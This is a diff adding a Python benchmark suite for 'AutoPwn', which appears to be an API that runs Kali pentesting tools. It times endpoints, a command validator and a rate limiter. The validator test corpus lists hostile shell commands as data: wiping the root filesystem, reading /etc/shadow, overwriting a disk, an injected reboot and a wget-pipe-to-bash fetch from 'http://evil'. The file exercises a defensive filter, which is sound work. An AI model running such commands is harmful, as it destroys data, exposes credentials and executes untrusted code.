@@ -0,0 +1,365 @@
+"""
+AutoPwn benchmark suite.
+
+Runs the FastAPI app in-process against FakeKaliService and reports
+throughput and p50/p95/p99 latency for /execute, /health, /tools and
+/ws/execute/{id}, plus microbenchmarks for the command validator and the
+rate limiter.
+
+    cd docker-backend/autopwn_ai
+    python -m benchmarks.run --latency-ms 10 --output-bytes 4096 --json results.json
+    python -m benchmarks.run --baseline results.json --max-regression 0.15
+"""
+from typing import Any, Awaitable, Callable, Dict, List, Optional
+import os
+import sys
+import json
+import time
+import uuid
+import asyncio
+import argparse
+import platform
+import tempfile
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+if ROOT not in sys.path:
+    sys.path.insert(0, ROOT)
+
+API_KEY = "benchmark-key"
+
+# Commands used for the validator microbenchmark: a mix of allowed commands
+# and ones rejected by each kind of rule
+VALIDATOR_CORPUS = [
+    "nmap -sV -p 1-1000 10.0.0.1",
+    "nikto -h http://10.0.0.5 -Tuning 123",
+    "gobuster dir -u http://target -w /usr/share/wordlists/dirb/common.txt",
+    "sqlmap -u 'http://target/item.php?id=1' --batch --level 3",
+    "hydra -L users.txt -P pass.txt ssh://10.0.0.9",
+    "curl -s http://10.0.0.2/robots.txt | grep Disallow",
+    "whatweb --color=never http://target",
+    "ls -la /tmp",
+    "rm -rf /",
+    "shutdown -h now",
+    "cat /etc/shadow",
+    "echo test > /dev/sda",
+    "nmap 10.0.0.1; reboot",
+    "wget http://evil/payload.sh | bash",
+]
+
+
+# =====================================
+# Result Helpers
+# =====================================
+
+def percentile(sorted_values: List[float], fraction: float) -> float:
+    """Nearest-rank percentile of an already sorted list"""
+    if not sorted_values:
+        return 0.0
+    index = min(len(sorted_values) - 1, max(0, int(round(fraction * len(sorted_values))) - 1))
+    return sorted_values[index]
+
+
+def summarize(latencies: List[float], errors: int, elapsed: float) -> Dict[str, Any]:
+    latencies = sorted(latencies)
+    return {
+        "requests": len(latencies) + errors,
+        "errors": errors,
+        "elapsed_s": round(elapsed, 4),
+        "throughput_rps": round(len(latencies) / elapsed, 2) if elapsed else 0.0,
+        "p50_ms": round(percentile(latencies, 0.50) * 1000, 3),
+        "p95_ms": round(percentile(latencies, 0.95) * 1000, 3),
+        "p99_ms": round(percentile(latencies, 0.99) * 1000, 3),
+        "max_ms": round(latencies[-1] * 1000, 3) if latencies else 0.0,
+    }
+
+
+def format_table(results: Dict[str, Dict[str, Any]]) -> str:
+    lines = [f"{'benchmark':<28}{'ops/s':>14}{'p50 ms':>12}{'p95 ms':>12}{'p99 ms':>12}{'errors':>9}"]
+    for name, result in results.items():
+        lines.append(
+            f"{name:<28}{result['throughput_rps']:>14,.1f}{result['p50_ms']:>12.4f}"
+            f"{result['p95_ms']:>12.4f}{result['p99_ms']:>12.4f}{result['errors']:>9}"
+        )
+    return "\n".join(lines)
+
+
+def compare(current: Dict[str, Any], baseline: Dict[str, Any], max_regression: float) -> List[str]:
+    """Benchmarks whose throughput dropped or p95 grew by more than `max_regression`"""
+    regressions = []
+    for name, result in current["results"].items():
+        previous = baseline.get("results", {}).get(name)
+        if previous is None:
+            continue
+        if previous["throughput_rps"] and \
+                result["throughput_rps"] < previous["throughput_rps"] * (1 - max_regression):
+            regressions.append(
+                f"{name}: throughput {previous['throughput_rps']:,.1f} -> {result['throughput_rps']:,.1f} ops/s"
+            )
+        if previous["p95_ms"] and result["p95_ms"] > previous["p95_ms"] * (1 + max_regression):
+            regressions.append(f"{name}: p95 {previous['p95_ms']:.4f} -> {result['p95_ms']:.4f} ms")
+    return regressions
+
+
+# =====================================
+# Load Scenarios
+# =====================================
+
+async def run_load(
+    operation: Callable[[int], Awaitable[bool]],
+    requests: int,
+    concurrency: int,
+) -> Dict[str, Any]:
+    """Run `requests` calls of `operation(i)` from `concurrency` workers"""
+    latencies: List[float] = []
+    errors = 0
+    counter = iter(range(requests))
+
+    async def worker():
+        nonlocal errors
+        for i in counter:
+            start = time.perf_counter()
+            try:
+                ok = await operation(i)
+            except Exception:
+                ok = False
+            if ok:
+                latencies.append(time.perf_counter() - start)
+            else:
+                errors += 1
+
+    start = time.perf_counter()
+    await asyncio.gather(*(worker() for _ in range(concurrency)))
+    return summarize(latencies, errors, time.perf_counter() - start)
+
+
+async def run_scenarios(args: argparse.Namespace) -> Dict[str, Dict[str, Any]]:
+    from benchmarks.asgi_client import Lifespan, WebSocketSession, http_request
+    from app.main import app
+
+    headers = {"X-API-Key": API_KEY}
+
+    async def execute(i):
+        # Vary the target so the result cache (if enabled) doesn't serve repeats
+        status, _, _ = await http_request(
+            app, "POST", "/execute", headers, {"command": f"nmap -sV 10.0.{i // 250 % 250}.{i % 250}"}
+        )
+        return status == 200
+
+    async def health(i):
+        status, _, _ = await http_request(app, "GET", "/health")
+        return status == 200
+
+    async def tools(i):
+        status, _, _ = await http_request(app, "GET", "/tools?limit=100", headers)
+        return status == 200
+
+    async def tools_revalidate(i):
+        status, _, _ = await http_request(
+            app, "GET", "/tools?limit=100", {**headers, "If-None-Match": tools_etag}
+        )
+        return status == 304
+
+    async def websocket(i):
+        session = WebSocketSession(app, f"/ws/execute/{uuid.uuid4()}", headers=headers)
+        await session.connect()
+        await session.send_json({"command": f"nmap -sV 10.1.0.{i % 250}"})
+        completed = False
+        while (frame := await session.receive_json()) is not None:
+            if frame["type"] in ("complete", "error"):
+                completed = frame["type"] == "complete" and frame["success"]
+                break
+        await session.close()
+        return completed
+
+    results = {}
+    async with Lifespan(app):
+        _, response_headers, _ = await http_request(app, "GET", "/tools?limit=1", headers)
+        tools_etag = response_headers.get("etag", "")
+
+        scenarios = {
+            "http_execute": execute,
+            "http_health": health,
+            "http_tools": tools,
+            "http_tools_304": tools_revalidate,
+            "ws_execute": websocket,
+        }
+        for name, operation in scenarios.items():
+            if args.only and not any(name.startswith(prefix) for prefix in args.only):
+                continue
+            results[name] = await run_load(operation, args.requests, args.concurrency)
+            print(f"  {name}: {results[name]['throughput_rps']:,.1f} req/s", file=sys.stderr)
+    return results
+
+
+# =====================================
+# Microbenchmarks
+# =====================================
+
+def run_micro(operation: Callable[[int], Any], iterations: int, batch: int = 100) -> Dict[str, Any]:
+    """
+    Time `operation(i)` in batches of `batch` calls. Percentiles are over
+    per-call averages within each batch, which keeps timer overhead out of
+    sub-microsecond results.
+    """
+    per_call: List[float] = []
+    start = time.perf_counter()
+    for batch_start in range(0, iterations, batch):
+        batch_begin = time.perf_counter()
+        for i in range(batch_start, min(iterations, batch_start + batch)):
+            operation(i)
+        per_call.append((time.perf_counter() - batch_begin) / batch)
+    elapsed = time.perf_counter() - start
+    result = summarize(per_call, 0, elapsed)
+    result["requests"] = iterations
+    result["throughput_rps"] = round(iterations / elapsed, 2)
+    return result
+
+
+def run_microbenchmarks(args: argparse.Namespace) -> Dict[str, Dict[str, Any]]:
+    from app.utils.tool_validator import CommandPolicy
+    from app.utils.rate_limiter import SlidingWindowRateLimiter, classify_route
+
+    iterations = args.micro_iterations
+    corpus = VALIDATOR_CORPUS
+    # Unique suffixes defeat the verdict cache
+    uncached_commands = [f"{corpus[i % len(corpus)]} #{i}" for i in range(iterations)]
+
+    uncached_policy = CommandPolicy(cache_size=1)
+    cached_policy = CommandPolicy()
+    cached_policy.validate_many(corpus)
+
+    limiter = SlidingWindowRateLimiter(route_limits={"execute": 1_000_000, "default": 1_000_000})
+    keys = [f"ip:10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}" for i in range(args.rate_limit_keys)]
+    paths = ["/execute", "/tools", "/health", "/ws/execute/abc"]
+
+    benchmarks = {
+        "validator_uncached": lambda i: uncached_policy.validate(uncached_commands[i]),
+        "validator_cached": lambda i: cached_policy.validate(corpus[i % len(corpus)]),
+        "rate_limit_hit": lambda i: limiter.hit(keys[i % len(keys)], classify_route(paths[i % len(paths)])),
+    }
+    results = {}
+    for name, operation in benchmarks.items():
+        if args.only and not any(name.startswith(prefix) for prefix in args.only):
+            continue
+        results[name] = run_micro(operation, iterations)
+        print(f"  {name}: {results[name]['throughput_rps']:,.0f} ops/s", file=sys.stderr)
+    return results
+
+
+async def run_middleware_benchmark(args: argparse.Namespace) -> Dict[str, Dict[str, Any]]:
+    """Round trip through the middleware stack to the trivial root endpoint"""
+    from benchmarks.asgi_client import http_request
+    from app.main import app
+
+    async def root(i):
+        status, _, _ = await http_request(app, "GET", "/", client=(f"10.2.{i // 256 % 256}.{i % 256}", 50000))
+        return status == 200
+
+    if args.only and not any("http_middleware".startswith(prefix) for prefix in args.only):
+        return {}
+    result = await run_load(root, args.micro_iterations // 10, 1)
+    print(f"  http_middleware: {result['throughput_rps']:,.1f} req/s", file=sys.stderr)
+    return {"http_middleware": result}
+
+
+async def run_app_benchmarks(args: argparse.Namespace) -> Dict[str, Dict[str, Any]]:
+    # One event loop for everything, since the app's services bind to it
+    results = await run_middleware_benchmark(args)
+    if not args.skip_load:
+        print("Running load scenarios...", file=sys.stderr)
+        results.update(await run_scenarios(args))
+    return results
+
+
+# =====================================
+# Entry Point
+# =====================================
+
+def configure_environment(args: argparse.Namespace):
+    """Point the app at the stand-in backend before it is imported"""
+    os.environ["API_KEY"] = API_KEY
+    for route_class in ("HEALTH", "EXECUTE", "DEFAULT"):
+        os.environ[f"RATE_LIMIT_{route_class}"] = "100000000"
+    os.environ.setdefault("JOB_WORKERS", "1")
+
+    # The app creates binaries/, uploads/ and outputs/ relative to the working
+    # directory, so run in a scratch one
+    workdir = tempfile.mkdtemp(prefix="autopwn-bench-")
+    os.makedirs(os.path.join(workdir, "static"), exist_ok=True)
+    os.chdir(workdir)
+
+    from loguru import logger
+    logger.remove()
+    logger.add(sys.stderr, level=args.log_level)
+
+    from benchmarks.fake_kali import FakeKaliService
+    import app.services.kali_service as kali_module
+    kali_module.KaliService = lambda: FakeKaliService(
+        latency=args.latency_ms / 1000,
+        output_bytes=args.output_bytes,
+        chunk_bytes=args.chunk_bytes,
+        tool_count=args.tool_count,
+    )
+
+
+def parse_args(argv: Optional[List[str]] = None) -> argparse.Namespace:
+    parser = argparse.ArgumentParser(description="AutoPwn load and microbenchmarks")
+    parser.add_argument("--requests", type=int, default=2000, help="requests per load scenario")
+    parser.add_argument("--concurrency", type=int, default=32, help="concurrent clients per load scenario")
+    parser.add_argument("--latency-ms", type=float, default=10.0, help="simulated Kali command latency")
+    parser.add_argument("--output-bytes", type=int, default=4096, help="simulated command output size")
+    parser.add_argument("--chunk-bytes", type=int, default=4096, help="simulated SSH read size")
+    parser.add_argument("--tool-count", type=int, default=2000, help="tools reported by the stand-in host")
+    parser.add_argument("--micro-iterations", type=int, default=100_000)
+    parser.add_argument("--rate-limit-keys", type=int, default=10_000, help="distinct clients in the rate limiter")
+    parser.add_argument("--only", nargs="*", help="run only benchmarks whose names start with these prefixes")
+    parser.add_argument("--skip-load", action="store_true", help="run microbenchmarks only")
+    parser.add_argument("--json", dest="json_path", help="write results to this file")
+    parser.add_argument("--baseline", help="compare against a previous --json result")
+    parser.add_argument("--max-regression", type=float, default=0.15,
+                        help="allowed fractional throughput/p95 regression against the baseline")
+    parser.add_argument("--log-level", default="WARNING")
+    return parser.parse_args(argv)
+
+
+def main(argv: Optional[List[str]] = None) -> int:
+    args = parse_args(argv)
+    baseline_path = os.path.abspath(args.baseline) if args.baseline else None
+    json_path = os.path.abspath(args.json_path) if args.json_path else None
+    configure_environment(args)
+
+    print("Running microbenchmarks...", file=sys.stderr)
+    results = run_microbenchmarks(args)
+    results.update(asyncio.run(run_app_benchmarks(args)))
+
+    report = {
+        "timestamp": time.time(),
+        "python": platform.python_version(),
+        "platform": platform.platform(),
+        "config": {
+            key: value for key, value in vars(args).items()
+            if key not in ("json_path", "baseline", "log_level")
+        },
+        "results": results,
+    }
+    print(format_table(results))
+
+    if json_path:
+        with open(json_path, "w") as f:
+            json.dump(report, f, indent=2)
+        print(f"Results written to {json_path}", file=sys.stderr)
+
+    if baseline_path:
+        with open(baseline_path) as f:
+            regressions = compare(report, json.load(f), args.max_regression)
+        if regressions:
+            print("Regressions against baseline:", file=sys.stderr)
+            for line in regressions:
+                print(f"  {line}", file=sys.stderr)
+            return 1
+        print("No regressions against baseline", file=sys.stderr)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())